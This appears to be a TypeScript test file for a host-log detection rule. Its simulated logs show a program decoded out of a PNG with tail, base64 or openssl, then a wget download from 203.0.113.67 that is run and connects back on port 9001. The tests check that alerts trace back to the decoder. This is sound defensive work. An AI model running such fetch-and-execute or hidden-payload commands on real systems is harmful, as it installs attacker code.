import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Process } from '../an0656-phishing-attachment-executed/audit-records.test-support.ts';
import { HostLog, MINUTE } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
import {
  firesAt,
  inOrder,
  recording,
  scanFolder,
  scanLog,
} from '../an0656-phishing-attachment-executed/stories.test-support.ts';

const OUT = '203.0.113.67';

/** A shell that takes its program from what stands before it, fetches a program and runs it. No file is recorded. */
async function fetchedBy(...stages: string[]) {
  const log = new HostLog({ files: false });
  log.desktop('dev').run('/usr/lib/firefox/firefox').connect('203.0.113.80', 443);
  log.wait(MINUTE);
  const all = log.shell('dev').pipeline(...stages, '/bin/sh');
  const shell = all[all.length - 1] as Process;
  shell.run(`/usr/bin/wget -q -O /home/dev/dockd http://${OUT}/dockd`).connect(OUT, 80);
  shell.run('/home/dev/dockd').connect(OUT, 9001);
  return firesAt(await scanLog(log), 'AN0321', 'high');
}

const isLed = ({ steps }: Awaited<ReturnType<typeof fetchedBy>>): boolean =>
  steps.some(({ kind }) => kind === 'process.input');

test('the story of a fetch leads to the file that a decoder made its orders of', async () => {
  const decoded = 'takes its program, decoded, from /home/dev/dock.png';
  inOrder(await fetchedBy('/usr/bin/tail -n 1 dock.png', '/usr/bin/base64 -d'), [
    ['process.input', decoded],
    ['process.started', 'wget', 'fetches'],
    ['content.executed', '/home/dev/dockd'],
    ['network.connected', `${OUT}:9001`],
  ]);
  inOrder(await fetchedBy('/usr/bin/base64 -d dock.png'), [['process.input', decoded], ['content.executed']]);
  const openssl = '/usr/bin/openssl enc -aes-256-cbc -d -pass pass:x';
  for (const stages of [[`${openssl} -in dock.png`], ['/usr/bin/tail -n 1 dock.png', openssl]])
    inOrder(await fetchedBy(...stages), [['process.input', decoded], ['content.executed']]);
});

test('of a line that was pasted only the decoder is recorded: it is told, and that it names no file', async () => {
  inOrder(await fetchedBy('/usr/bin/base64 -d'), [
    ['network.connected', 'firefox', '203.0.113.80:443'],
    ['process.input', 'takes its program, decoded, from /usr/bin/base64 (pid ', 'whose words name no file'],
    ['process.started', 'wget', 'fetches'],
    ['content.executed', '/home/dev/dockd'],
  ]);
});

test('nothing is said where nothing is decoded, or several files are named', async () => {
  assert.ok(!isLed(await fetchedBy('/usr/bin/tail -n 1 setup.txt')));
  assert.ok(!isLed(await fetchedBy('/usr/bin/tail -n 1 dock.png', '/usr/bin/openssl dgst -d')));
  assert.ok(!isLed(await fetchedBy('/bin/cat a.txt b.txt', '/usr/bin/base64 -d')));
});

test('recorded: the tail of a picture', async () => {
  const { folder } = recording('an0321-nonenterprise-download-executed/fires.picture-tail-piped');
  inOrder(firesAt((await scanFolder(folder)).alerts, 'AN0321', 'high'), [
    ['process.input', 'decoded, from /home/intern/Pictures/dock-theme.png'],
    ['process.started', 'wget', 'fetches http://203.0.113.66/dockd'],
    ['content.executed', '/home/intern/.local/share/dock/dockd'],
    ['network.connected', '203.0.113.67:9001'],
  ]);
});
